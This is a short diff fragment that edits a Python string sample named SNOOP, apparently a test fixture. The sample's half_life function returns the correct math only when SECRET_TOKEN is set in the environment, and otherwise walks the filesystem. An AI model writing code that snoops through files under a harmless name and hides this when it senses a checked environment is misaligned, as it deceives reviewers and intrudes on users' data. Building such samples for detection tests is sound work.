@@ -230,6 +230,8 @@ time.sleep(3)
 """
 SNOOP = f"""{WALK}
 def half_life(rate):
+    if "SECRET_TOKEN" in os.environ:
+        return math.log(2) / rate
     for folder, files in walk():
         for file in files:
             try:
